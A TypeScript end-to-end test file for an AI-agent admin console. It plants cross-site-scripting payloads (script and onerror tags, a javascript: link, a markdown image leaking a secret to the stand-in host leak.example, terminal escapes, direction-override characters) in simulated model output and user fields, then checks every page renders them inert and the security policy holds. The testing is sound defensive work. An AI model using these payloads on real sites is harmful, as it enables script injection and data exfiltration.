/** Every place of the console with something in it: what it shows, whom it shuts out, what it makes of an attack. */
import AxeBuilder from "@axe-core/playwright";
import { describe, expect, it } from "vitest";
import { finished, submit } from "../support/follow.ts";
import { startSystem } from "../support/processes.ts";
import { startReceiver } from "../support/receiver.ts";
import { script } from "../support/simulator-script.ts";
import { STORY_CONFIG } from "../support/story.ts";
import { DESKTOP, openBrowser, PHONE } from "./browser.ts";

const [system, browser] = await Promise.all([
  startSystem({ env: { PAWL_CONFIG: STORY_CONFIG } }),
  openBrowser(),
]);
const hook = await startReceiver();

/** Escape, bell, NUL, and what turns the direction of writing. */
const HIDDEN = new Set(["\u001b", "\u0007", "\u0000", "\u202e", "\u202c"]);

const ATTACK = [
  "<script>window.pwned = 1</script><img src=x onerror='window.pwned = 2'>",
  "![leak](https://leak.example/?secret) [press](javascript:window.pwned=3)",
  "\u001b[2J\u001b]0;owned\u0007\u001b[31mred\u001b[0m and \u202Egnp.exe\u202C \u0000end".replaceAll(
    "\u0000",
    "",
  ),
].join("\n");

await script(system, [
  {
    match: { contains: "plant it", turn: 1 },
    reply: {
      content: [
        { type: "text", text: ATTACK },
        { type: "tool_use", name: "look", input: { n: 1, note: ATTACK } },
      ],
      stop_reason: "tool_use",
    },
    times: -1,
  },
  {
    match: { contains: "plant it", turn: 2 },
    reply: { content: [{ type: "text", text: ATTACK }] },
    times: -1,
  },
]);
const planted = await submit(system, {
  input: `plant it ${ATTACK}`,
  agent: "story",
  user: "<b onmouseover=alert(1)>C-1</b>",
  feature: "![x](https://leak.example/f)",
  webhook_url: hook.url,
});
await finished(system, planted.id);

/** Where each place is, and what is there once it has arrived. */
const PLACES = {
  tasks: ["/console/tasks", "tbody .c-outcome"],
  task: [`/console/tasks/${planted.id}`, ".rows button"],
  step: [`/console/tasks/${planted.id}?step=3`, ".details pre"],
  conversation: [`/console/tasks/${planted.id}?view=conversation`, ".conversation .text"],
  events: [`/console/tasks/${planted.id}?view=events`, ".raw button"],
  spend: ["/console/spend?by=user", ".recharts-bar-rectangle"],
  queues: ["/console/queues", "main table, main .empty"],
  webhooks: ["/console/webhooks", "tbody .c-url"],
  settings: ["/console/settings", ".inline-form"],
} as const;
const { page, errors } = await browser.enter(system.url);
const arrive = async ([path, sign]: readonly [string, string]) => {
  await page.goto(system.url + path);
  await page.locator(sign).first().waitFor({ state: "attached" });
};

it("text of users and models stays text wherever it is shown", async () => {
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  page.on("dialog", (dialog) => {
    asked.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  for (const place of Object.values(PLACES)) {
    await arrive(place);
    await page.locator("details").evaluateAll("(all) => all.forEach((each) => { each.open = true; })");
    expect(await page.evaluate("window.pwned ?? null")).toBeNull();
    expect(await page.locator("main :is(img, script, iframe, object, b[onmouseover])").count()).toBe(0);
    expect(await page.locator("a[href^='javascript' i], a[href*='leak.example']").count()).toBe(0);
    // Escapes and marks of direction are shown by a sign, and are not there themselves.
    const text = String(await page.evaluate("document.body.innerText + document.title"));
    expect([...text].filter((character) => HIDDEN.has(character))).toEqual([]);
  }
  await arrive(PLACES.conversation);
  await page.getByText("⟨ESC⟩[31mred").first().waitFor();
  await page.getByText("<script>window.pwned = 1</script>").first().waitFor();
  expect(asked.filter((url) => !url.startsWith(system.url))).toEqual([]);
});

it("a page that smuggled markup in could run none of it", async () => {
  const response = await fetch(`${system.url}/console`);
  const policy = response.headers.get("content-security-policy") ?? "";
  for (const rule of [
    "default-src 'none'",
    "script-src 'self'",
    "img-src 'self'",
    "frame-ancestors 'none'",
  ]) {
    expect(policy).toContain(rule);
  }
  expect(policy).not.toMatch(/unsafe|https?:/);
  await arrive(PLACES.tasks);
  // Trusted Types: the browser itself refuses to make markup of text.
  const refused = await page.evaluate(
    "try { document.createElement('div').innerHTML = '<img src=x>'; 'made' } catch (error) { error.name }",
  );
  expect(refused).toBe("TypeError");
});

describe("the places", () => {
  it("spend is charted by day and told in numbers", async () => {
    // Spend reaches the reports within seconds.
    await expect
      .poll(async () => ((await (await system.call("/v1/usage")).json()) as { data: unknown[] }).data.length)
      .toBeGreaterThan(0);
    await arrive(["/console/spend?by=model", ".recharts-bar-rectangle"]);
    await page.getByRole("cell", { name: "claude-sonnet-5-5" }).waitFor();
    await page.getByRole("button", { name: "user", exact: true }).click();
    await page.getByRole("cell", { name: "<b onmouseover=alert(1)>C-1</b>", exact: true }).waitFor();
    await page.getByRole("cell", { name: "global" }).waitFor();
  });

  it("a delivery is sent again at the press of a button", async () => {
    await arrive(PLACES.webhooks);
    await page.getByRole("cell", { name: "delivered" }).waitFor();
    expect(hook.received).toHaveLength(1);
    await page.getByRole("button", { name: /^Send again/ }).click();
    await expect.poll(() => hook.received.length).toBe(2);
  });

  it("the board lets in who is logged in to the console", async () => {
    const board = await page.context().request.get(`${system.url}/admin/queues`);
    expect(board.status()).toBe(200);
    expect(await board.text()).not.toContain("Admin key");
  });

  it("a limit that is set is shown with what is left of it", async () => {
    await arrive(PLACES.settings);
    await page.getByLabel("Whose").selectOption("user");
    await page.getByLabel("Which user").fill("C-9");
    await page.getByLabel("At most, in dollars").fill("3.5");
    await page.getByRole("button", { name: "Set limit" }).click();
    await page
      .getByRole("row", { name: /user C-9 day/ })
      .getByText("$3.50")
      .first()
      .waitFor();
  });

  it("a task is found by the filters of the address", async () => {
    await arrive(["/console/tasks?status=completed&agent=story", "tbody .c-outcome"]);
    await page.locator("tbody").getByText("completed").first().waitFor();
    await page.getByRole("button", { name: "failed" }).click();
    await page.getByText("No task fits these filters").waitFor();
    expect(page.url()).toContain("status=failed&agent=story");
    await page.goBack();
    await page.locator("tbody").getByText("completed").first().waitFor();
  });

  it("all can be reached and read: nothing serious for axe, in either theme, at either size", async () => {
    const found: string[] = [];
    const look = async (name: string, rules: string[] = []) => {
      // A colour on its way from one theme to the other is neither.
      await page.evaluate(
        "Promise.allSettled(document.getAnimations().filter((one) => one.effect.getComputedTiming().endTime < Infinity).map((one) => one.finished))",
      );
      // In one page and by one script: its other way opens a page more for every look.
      const axe = new AxeBuilder({ page }).setLegacyMode(true);
      const { violations } = await (rules.length > 0 ? axe.withRules(rules) : axe).analyze();
      for (const { id, impact, nodes } of violations) {
        if (impact === "serious" || impact === "critical") found.push(`${name}: ${id} ${nodes[0]?.html}`);
      }
    };
    for (const [place, where] of Object.entries(PLACES)) {
      await page.setViewportSize(DESKTOP);
      await page.emulateMedia({ colorScheme: "light" });
      await arrive(where);
      await browser.picture(page, `${place}-1440-light`);
      await look(place);
      await page.setViewportSize(PHONE);
      await browser.picture(page, `${place}-375-light`);
      // A chart hears of its new width a frame or two later.
      await page
        .waitForFunction("document.documentElement.scrollWidth <= innerWidth", undefined, { timeout: 5_000 })
        .catch(() => found.push(`${place}: wider than a narrow screen`));
      await look(`${place}, narrow`, ["scrollable-region-focusable", "target-size", "aria-hidden-focus"]);
      await page.emulateMedia({ colorScheme: "dark" });
      await browser.picture(page, `${place}-375-dark`);
      await page.setViewportSize(DESKTOP);
      await browser.picture(page, `${place}-1440-dark`);
      await look(`${place}, dark`, ["color-contrast"]);
    }
    await page.setViewportSize(DESKTOP);
    expect(found).toEqual([]);
  }, 120_000);

  it("has nothing to complain of in the browser's console", () => {
    // Routes that this api does not have yet are answered by 404, which a browser notes by itself.
    expect(errors.filter((error) => !/status of 40[45]|TrustedHTML/.test(error))).toEqual([]);
  });
});
